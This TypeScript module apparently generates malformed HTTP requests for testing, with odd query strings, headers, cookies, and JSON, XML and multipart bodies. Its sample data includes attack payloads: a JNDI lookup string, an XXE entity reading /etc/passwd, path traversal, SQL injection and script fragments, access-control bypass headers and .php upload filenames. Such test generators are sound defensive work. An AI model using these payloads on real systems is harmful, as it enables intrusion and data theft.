/** What is not an attack by its words but by its form: odd targets, headers, cookies and bodies. */
import type { Draw } from './draw.ts'
import type { Parts } from './request.ts'

/** Changes a request's form; `text` is an attack or a harmless text to put into it. */
type Oddity = (parts: Parts, text: string, draw: Draw) => Parts

const tails = [
  '?',
  '??a=b',
  '?a',
  '?=b',
  '?a=b=c',
  '?a=1&a=2&&b',
  '?a=1;b=2',
  '?a+b=c+d',
  '?%61=%zz',
  '?a=%',
  '?a[]=1&a[0]=2&a[b][c]=3',
  '#fragment',
  '?a=b#c',
  ';jsessionid=1?a=b',
  '/../x/./y//z?a=b',
  '/a%2fb%5cc%00',
  '?%00a=b%00c',
]

const fields: readonly (readonly [string, string])[] = [
  ['Range', 'bytes=0-1,2-3,4-5,6-7,8-9,10-11'],
  ['Range', 'bytes=9-1'],
  ['Accept', ''],
  ['Accept', 'text/html;q=0.8,*/*;charset=utf-8'],
  ['Accept-Encoding', 'gzip;q=1.0, x-odd'],
  ['Accept-Charset', 'ibm037'],
  ['Content-Encoding', 'deflate'],
  ['X-HTTP-Method-Override', 'DELETE'],
  ['X-Original-URL', '/admin'],
  ['Proxy', 'http://evil.example/'],
  ['Lock-Token', 'x'],
  ['If-None-Match', '"x"'],
  ['Cache-Control', 'max-age=0, x=1'],
  ['Upgrade-Insecure-Requests', '1'],
  ['Referer', 'https://www.example.org/?q=%3Cscript%3E'],
  ['Authorization', 'Basic YTpi'],
  ['X-Empty', ''],
  ['X.Dot', '1'],
  ['x_y', '${jndi:ldap://x/a}'],
  ['Accept', 'text/html'],
  ['User-Agent', 'sqlmap/1.8'],
  ['Cookie', 'second=1'],
  ['Host', '127.0.0.1:80'],
]

const cookies = [
  'a',
  '=b',
  'a=b;;c=d',
  'a=b; a=c; a=d',
  'a="b;c"; d=e',
  'a=b,c=d',
  ' a = b ;c= d ',
  '$Version=1; a=b; $Path=/',
  'a=%27%20or%201=1',
  'a=b=c; d==',
  ';',
]

const json = [
  '{"a":1,"a":"2","b":[[],{},[1,[2,[3]]]],"":""}',
  '{"a":"\\u003cscript\\u003e","b":"\\ud83d\\ude00","c":"\\/"}',
  '{"a":"b"',
  '{"a":"b"} trailing',
  '[1e400,-0,0.10,true,null,""]',
  '"union select 1 from t"',
  'null',
  '{"a\\u0000b":"c\\u0000d","e.f":"g","h[i]":"j"}',
  "{'a':'b'}",
  '{"a":"\\x"}',
  '{"a":[{"b":[{"c":"../../etc/passwd"}]}]}',
]

const xml = [
  '<a><b>one</b><b>two</b></a>',
  '<a b="1" c=\'<script>\'/>',
  '<a b="1 union select" c="../../etc/passwd">x<!-- comment --><?pi data?></a>',
  '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>',
  '<a>&lt;script&gt;&#x61;&#97;</a>',
  '<a><b></a></b>',
  '<a xmlns:x="u"><x:b x:c="d">e</x:b></a>',
  'no xml',
  '<a>one</a><b/>',
  '<a><![CDATA[<script>alert(1)</script>]]> tail</a>',
]

const part = 'Content-Disposition: form-data; name="a"'
const multipart = [
  `--B\r\n${part}\r\n\r\nv\r\n`,
  `--B\n${part}\n\nv\n--B--\n`,
  `--B\r\n${part}; name="b"\r\n\r\nv\r\n--B--\r\n`,
  `preamble\r\n--B\r\n${part}\r\n\r\nv\r\n--B--\r\nepilogue`,
  `--B\r\nContent-Disposition: form-data\r\n\r\nv\r\n--B--\r\n`,
  `--B\r\nContent-Disposition: form-data; name=a; filename=b.php\r\n\r\nv\r\n--B--\r\n`,
  `--B\r\nContent-Disposition: form-data; name='a'\r\n\r\nv\r\n--B--\r\n`,
  `--B\r\n${part}; filename*=UTF-8''b.php\r\n\r\nv\r\n--B--\r\n`,
  `--B\r\n${part}\r\nContent-Transfer-Encoding: base64\r\n\r\ndg==\r\n--B--\r\n`,
  `--B\r\n${part}\r\n Content-Type: x\r\n\r\nv\r\n--B--\r\n`,
  `--B\r\n${part}\r\nX-Part: <script>\r\nContent-Type: a/b; charset=utf-7\r\n\r\nv\r\n--B--\r\n`,
  `--B\r\n${part}; filename="a\\"b.jsp"\r\n\r\nv\r\n--B--\r\n`,
  `--B\r\n${part}\r\n\r\nv\r\n--B\r\n${part}\r\n\r\nw\r\n--B--\r\n`,
  '--B--\r\n',
  `--B\r\n${part}\r\n\r\n--Bx\r\n--B--\r\n`,
]

const types = [
  '',
  'APPLICATION/JSON',
  'application/json;',
  'application/vnd.api+json',
  'application/x-www-form-urlencoded; charset=utf-16',
  'multipart/form-data',
  'multipart/form-data; boundary=',
  'multipart/form-data; boundary="B"',
  'multipart/form-data; boundary=B; boundary=C',
  'multipart/mixed; boundary=B',
  'text/xml',
  'image/png',
  'application/x-www-form-urlencoded, application/json',
]

function raw(parts: Parts, contentType: string, text: string): Parts {
  return { ...parts, method: 'POST', kind: 'text', contentType, body: [['raw', text]] }
}

const oddities: readonly Oddity[] = [
  (parts, _, draw) => ({ ...parts, query: [], tail: draw.pick(tails) }),
  (parts, text) => ({ ...parts, query: [], tail: `?${text}` }),
  (parts, text, draw) => ({ ...parts, query: [], tail: draw.pick(tails).replace('b', () => text) }),
  (parts, _, draw) => ({ ...parts, headers: [...parts.headers, draw.pick(fields)] }),
  (parts, text, draw) => {
    const [name, value] = draw.pick(fields)
    return { ...parts, headers: [...parts.headers, [name, value.replace(/\w+$/, () => text)]] }
  },
  (parts) => ({ ...parts, headers: parts.headers.slice(0, 1) }),
  (parts, _, draw) => ({ ...parts, headers: [...parts.headers, ['Cookie', draw.pick(cookies)]] }),
  (parts, text, draw) => {
    const cookie = draw.pick(cookies).replace('b', () => text)
    return { ...parts, headers: [...parts.headers, ['Cookie', cookie]] }
  },
  (parts, _, draw) => ({
    ...parts,
    method: draw.pick(['TRACE', 'PATCH', 'ODD', 'get', 'PROPFIND']),
  }),
  (parts, _, draw) => raw(parts, 'application/json', draw.pick(json)),
  (parts, text, draw) =>
    raw(
      parts,
      'application/json',
      draw.pick(json).replace('b', () => text),
    ),
  (parts, _, draw) => raw(parts, 'application/xml', draw.pick(xml)),
  (parts, text, draw) =>
    raw(
      parts,
      'text/xml',
      draw.pick(xml).replace('one', () => text),
    ),
  (parts, _, draw) => raw(parts, 'multipart/form-data; boundary=B', draw.pick(multipart)),
  (parts, text, draw) => {
    const body = draw.pick(multipart).replace(draw.pick(['v', '"a"', 'X-Part']), () => text)
    return raw(parts, 'multipart/form-data; boundary=B', body)
  },
  (parts, text, draw) =>
    raw(parts, draw.pick(types), draw.pick([text, `a=${text}`, ...json, ...multipart])),
  (parts, _, draw) => (parts.kind === null ? parts : { ...parts, contentType: draw.pick(types) }),
]

/** The request in an odd form. */
export function distort(parts: Parts, text: string, draw: Draw): Parts {
  return draw.pick(oddities)(parts, text, draw)
}
